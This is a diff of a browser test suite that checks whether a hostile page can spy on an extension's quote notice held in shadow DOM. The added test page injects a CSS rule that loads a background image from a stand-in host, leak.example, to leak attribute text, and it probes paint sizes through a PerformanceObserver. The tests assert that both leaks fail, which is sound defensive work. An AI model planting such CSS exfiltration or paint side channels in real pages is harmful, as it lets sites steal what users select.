@@ -19,8 +19,8 @@ const FAMILIES = [
 ];
 
 /**
- * Collects, in the page's own script, what the nodes contain to which events lead. Firefox names nodes in closed shadow roots. The page
- * enlarges the notice, so that a mouse at rest is over it.
+ * Collects, in the page's own script, what the nodes contain to which events lead, and asks for words by rules in the style sheets found there. Firefox
+ * names nodes in closed shadow roots. The page enlarges the notice, so that a mouse at rest is over it.
  */
 const FOLLOW_EVENTS = `<script>
 const found = new Set();
@@ -29,6 +29,8 @@ const collect = (event) => {
     const root = node?.getRootNode?.();
     if (!(root instanceof ShadowRoot)) continue;
     found.add('a root');
+    for (const sheet of root.adoptedStyleSheets)
+      sheet.insertRule('p[data-words^="Clipped"], [data-words^="I"] { background: url(http://leak.example/words) }');
     for (const each of root.querySelectorAll('*'))
       for (const { value } of [...each.attributes, { value: getComputedStyle(each, '::before').content }, { value: each.ariaLabel ?? '' }])
         if (each.localName !== 'button') found.add(value);
@@ -43,14 +45,24 @@ new MutationObserver((changes) => {
 }).observe(document.documentElement, { childList: true });
 </script>`;
 
+/** The words are in a frame of their own, so that the page is told of paints also after the input that clips them. */
+const FRAMED = `<script>
+const sizes = [];
+new PerformanceObserver((list) => {
+  for (const { size } of list.getEntries()) sizes.push(size);
+  document.documentElement.dataset.sizes = sizes.join(' ');
+}).observe({ type: 'largest-contentful-paint', buffered: true });
+</script><iframe id="frame" src="/short" style="position: fixed; inset: 0; width: 600px; height: 400px"></iframe>`;
+
 const responders = {
   'spy.example': (address: URL, response: ServerResponse) => {
-    const title = address.pathname === '/long' ? LONG_TITLE : 'No';
+    const title = address.pathname.endsWith('long') ? LONG_TITLE : 'No';
+    const isFramed = address.pathname.startsWith('/framed');
     response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
     // The page looks the same at each address, so differences come from the notice.
     response.end(
       `<!doctype html><html lang="en"><title>${title}</title><style>* { font-family: 'No such' }</style>` +
-        `<meta property="og:title" content="${title}"><article><p id="words">These are the words which a person has selected.</p></article>${address.pathname === '/events' ? FOLLOW_EVENTS : ''}</html>`,
+        `<meta property="og:title" content="${title}">${isFramed ? FRAMED : ''}<article><p id="words">These are the words which a person has selected.</p></article>${address.pathname === '/events' ? FOLLOW_EVENTS : ''}</html>`,
     );
   },
 };
@@ -122,6 +134,22 @@ describe.each(BROWSERS)('a page that spies on the notice in %s', (browser) => {
     expect(long).toEqual(short);
   });
 
+  it('is told of no paint whose size depends on the words', async ({ skip }) => {
+    if (!room.session.hasScreen) skip('needs Xvfb and xdotool');
+    const sizesOf = async (path: string) => {
+      tab = await room.session.openTab(`http://spy.example/${path}`);
+      const page = tab;
+      await waitFor('the frame', () => page.run(selectInFrame));
+      await room.session.pressQuoteShortcut();
+      await waitForNotice(page);
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return page.run(() => document.documentElement.dataset['sizes']);
+    };
+    const short = await sizesOf('framed-short');
+    await tab.close();
+    expect(await sizesOf('framed-long')).toBe(short);
+  });
+
   it('is led to no word by events of mouse and keyboard, even if it enlarges the notice', async ({
     skip,
   }) => {
@@ -135,6 +163,7 @@ describe.each(BROWSERS)('a page that spies on the notice in %s', (browser) => {
     const found = await page.run(() => document.documentElement.dataset['found'] ?? '');
     if (browser === 'firefox') expect(found).toContain('a root'); // of the cover, which has no words
     for (const word of OUR_WORDS) expect(found).not.toContain(word);
+    expect(room.requests.filter((address) => address.includes('leak.example'))).toEqual([]);
   });
 
   it('sees that a node came and went, and no word of it', async ({ skip }) => {
@@ -253,4 +282,14 @@ function measureNotice() {
     scroll: [document.documentElement.scrollWidth, innerWidth - document.documentElement.clientWidth],
     paints: document.documentElement.dataset['paints'],
   };
+}
+
+/** Runs in the page. Returns whether its frame has words. */
+function selectInFrame(): boolean {
+  const frame = document.querySelector('iframe');
+  const words = frame?.contentDocument?.querySelector('#words');
+  if (!words) return false;
+  frame?.focus();
+  frame?.contentWindow?.getSelection()?.selectAllChildren(words);
+  return true;
 }
